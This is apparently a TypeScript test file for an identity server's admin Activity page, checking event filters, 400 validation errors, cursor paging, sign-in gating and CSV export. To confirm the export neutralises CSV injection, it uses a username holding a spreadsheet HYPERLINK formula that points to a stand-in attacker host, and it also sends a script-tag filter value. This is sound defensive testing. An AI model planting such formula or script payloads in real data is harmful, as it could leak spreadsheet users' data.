/**
 * The console's Activity page (issue #14) over the real app: a member's sign-in after a real OIDC
 * flow is listed with its request id; every filter (integration, member by username, door, kind,
 * result by wire name, time range) narrows as the event API does; bad filters answer 400 with
 * the message at the field; the cursor pages through everything once; the CSV export carries
 * the same rows, RFC 4180 quoted, with a formula-looking username neutralised.
 */
import { parse } from 'csv-parse/sync'
import request from 'supertest'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ADMIN_TOKEN } from '../helpers/app.ts'
import { consoleAgent, type ConsoleAgent } from '../helpers/console.ts'
import {
  Browser,
  callbackParams,
  createAccount,
  isConsentPage,
  isLoginPage,
  PASSWORD,
  registerClient,
  startOidcServer,
  type OidcServer,
} from '../helpers/oidc.ts'
import { integrations } from '../tokens/helpers/fixtures.ts'

const CALLBACK = 'https://rp.example/cb'
/** A username a spreadsheet would run as a formula, were it written as it is. */
const FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'

let s: OidcServer
let c: ConsoleAgent
let tokenRequestId: string

const rowsOf = (html: string) => html.match(/<tr data-event="[^"]+">[\s\S]*?<\/tr>/g) ?? []
const idsOf = (html: string) => rowsOf(html).map((r) => /data-event="([^"]+)"/.exec(r)![1]!)
const issue = (external_id: string) =>
  fetch(`${s.url}/api/v1/integrations/generic/tokens`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${ADMIN_TOKEN}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ external_id }),
  })
const apiEvents = async (query: string) =>
  (
    (await (
      await fetch(`${s.url}/api/v1/events?${query}`, {
        headers: { Authorization: `Bearer ${ADMIN_TOKEN}` },
      })
    ).json()) as { items: { id: string; kind: string; request_id: string }[] }
  ).items

beforeAll(async () => {
  s = await startOidcServer()
  await createAccount(s, '1001', { username: 'robin', email: 'robin@example.test' })
  await createAccount(s, '2002', { username: FORMULA, email: 'formula@example.test' })
  const { clientSecret } = await registerClient(s, 'rp', { redirect_uris: [CALLBACK] })
  expect((await s.admin('PUT', '/integrations/generic', integrations.generic)).status).toBe(201)

  // A real OIDC flow: robin signs in with the password form, allows, the code is exchanged.
  const b = new Browser(s.issuer)
  let page = await b.go(
    `${s.issuer}/auth?${new URLSearchParams({ response_type: 'code', client_id: 'rp', redirect_uri: CALLBACK, scope: 'openid', state: 'st' })}`,
  )
  expect(isLoginPage(page)).toBe(true)
  page = await b.login(page, 'robin', PASSWORD)
  expect(isConsentPage(page)).toBe(true)
  page = await b.consent(page, 'allow')
  const token = await fetch(`${s.url}/token`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'authorization_code',
      code: callbackParams(page).get('code')!,
      redirect_uri: CALLBACK,
      client_id: 'rp',
      client_secret: clientSecret!,
    }),
  })
  expect(token.status).toBe(200)
  tokenRequestId = token.headers.get('x-request-id')!
  expect(tokenRequestId).toBeTruthy()

  expect((await issue('2002')).status).toBe(200)
  expect((await issue('nobody')).status).toBe(404)
  c = await consoleAgent(s.t)
})
afterAll(() => s?.close())

describe('Activity', () => {
  it("lists a member's sign-in after a real OIDC flow, found by username, with its request id", async () => {
    const res = await c.agent.get('/console/activity?member=robin').expect(200)
    const rows = rowsOf(res.text)
    const signIn = rows.find((r) => r.includes('<td>Sign-in</td>'))
    const tokenRow = rows.find((r) => r.includes('<td>OIDC token</td>'))
    expect(signIn, res.text).toBeDefined()
    expect(signIn).toContain('<a href="/console/integrations/rp">rp</a>')
    expect(signIn).toContain('<a href="/console/members/1001" data-member="1001">robin</a>')
    expect(tokenRow).toContain(`<code>${tokenRequestId}</code>`)
    // Every row is robin's, and each shows the request id the API recorded for it.
    const api = await apiEvents('member=1001')
    expect(idsOf(res.text)).toEqual(api.map((e) => e.id))
    for (const e of api) expect(res.text).toContain(`<code>${e.request_id}</code>`)
    // The same by external id and by email.
    for (const member of ['1001', 'robin@example.test'])
      expect(idsOf((await c.agent.get(`/console/activity?member=${member}`)).text)).toEqual(
        api.map((e) => e.id),
      )
  })

  it('filters by door, kind, integration, result (wire name or ERR code) and time', async () => {
    const get = async (q: string) => (await c.agent.get(`/console/activity?${q}`).expect(200)).text
    expect(idsOf(await get('door=tokens'))).toEqual(
      (await apiEvents('door=tokens')).map((e) => e.id),
    )
    expect(rowsOf(await get('door=tokens')).length).toBe(2)
    const refused = rowsOf(await get('kind=refused'))
    expect(refused.length).toBe(1)
    expect(refused[0]).toContain('<code>ERR_ACCOUNT_NOT_FOUND</code>')
    expect(idsOf(await get('result=user_not_found'))).toEqual(idsOf(await get('kind=refused')))
    expect(idsOf(await get('result=ERR_ACCOUNT_NOT_FOUND'))).toEqual(
      idsOf(await get('kind=refused')),
    )
    const rp = rowsOf(await get('integration=rp'))
    expect(rp.length).toBe(2)
    for (const r of rp) expect(r).toContain('/console/integrations/rp')
    // A datetime-local value (no zone) is UTC; the range narrows to nothing either side.
    expect(await get('since=2999-01-01T00:00')).toContain('id="no-events"')
    expect(await get('until=2000-01-01T00:00')).toContain('id="no-events"')
    expect(rowsOf(await get('since=2000-01-01T00:00&until=2999-01-01T00:00')).length).toBe(
      (await apiEvents('')).length,
    )
    // The form keeps what was asked.
    expect(await get('door=tokens&member=robin')).toMatch(/<option value="tokens" selected>/)
  })

  it('answers bad filters with 400, the message at the field, and lists nothing', async () => {
    const res = await c.agent
      .get('/console/activity?door=nope&since=yesterday&kind=everything')
      .expect(400)
    expect(res.text).toContain('data-code="validation_failed"')
    for (const field of ['door', 'since', 'kind']) {
      expect(res.text).toContain(`id="f-${field}-error"`)
      expect(res.text).toMatch(new RegExp(`id="f-${field}"[^>]*aria-invalid="true"`))
    }
    expect(rowsOf(res.text)).toEqual([])
    const cursor = await c.agent.get('/console/activity?cursor=bogus').expect(400)
    expect(cursor.text).toContain('<code>cursor</code> is not a cursor this server gave')
    const twice = await c.agent.get('/console/activity?door=oidc&door=saml').expect(400)
    expect(twice.text).toContain('id="f-door-error"')
    // A short name several codes share must be spelled as the code meant.
    const shared = await c.agent.get('/console/activity?result=invalid_request').expect(400)
    expect(shared.text).toContain('stands for several codes (ERR_ACCESS_TOKEN_REQUEST,')
    await c.agent.get('/console/activity.csv?result=%3Cscript%3E').expect(400)
  })

  it('pages through every event once by the cursor', async () => {
    for (let i = 0; i < 60; i++) expect((await issue('1001')).status).toBe(200)
    const all = (await apiEvents('limit=500')).map((e) => e.id)
    expect(all.length).toBeGreaterThan(60)
    const seen: string[] = []
    let url: string | null = '/console/activity'
    while (url) {
      const html: string = (await c.agent.get(url).expect(200)).text
      const ids = idsOf(html)
      expect(ids.length).toBeLessThanOrEqual(50)
      seen.push(...ids)
      const next = /<a class="button secondary" rel="next" href="([^"]+)"/.exec(html)?.[1]
      url = next ? next.replaceAll('&amp;', '&') : null
      if (url) expect(html).toBeDefined()
    }
    expect(seen).toEqual(all)
  })

  it('exports the same rows as CSV, quoted, with a formula-looking username neutralised', async () => {
    const res = await c.agent.get('/console/activity.csv?member=2002').expect(200)
    expect(res.headers['content-type']).toMatch(/^text\/csv/)
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="?activity-\d{4}-\d{2}-\d{2}\.csv/,
    )
    // RFC 4180: every field quoted, quotes doubled, CRLF; the formula prefixed with a quote.
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`)
    expect(res.text).toMatch(/\r\n$/)
    const rows = parse(res.text, { columns: true }) as Record<string, string>[]
    const api = await apiEvents('member=2002')
    expect(rows.map((r) => r.id)).toEqual(api.map((e) => e.id))
    expect(rows[0]).toMatchObject({ member_id: '2002', member_username: `'${FORMULA}` })
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)

    // Every event, over several store pages of the export, once each.
    const everything = parse((await c.agent.get('/console/activity.csv').expect(200)).text, {
      columns: true,
    }) as Record<string, string>[]
    expect(everything.map((r) => r.id)).toEqual((await apiEvents('limit=500')).map((e) => e.id))
  })

  it('GET /api/v1/events takes the same kind filter, and refuses an unknown kind', async () => {
    const refused = await apiEvents('kind=refused')
    expect(refused.length).toBe(1)
    expect(refused.every((e) => e.kind === 'refused')).toBe(true)
    const bad = await fetch(`${s.url}/api/v1/events?kind=bogus`, {
      headers: { Authorization: `Bearer ${ADMIN_TOKEN}` },
    })
    expect(bad.status).toBe(400)
    expect(await bad.json()).toMatchObject({
      error: 'validation_failed',
      details: { issues: [{ path: 'kind' }] },
    })
  })

  it('is behind the console sign-in', async () => {
    for (const path of ['/console/activity', '/console/activity.csv']) {
      const res = await request(s.t.app).get(path).expect(303)
      expect(res.headers.location).toBe('/console/login')
    }
  })
})
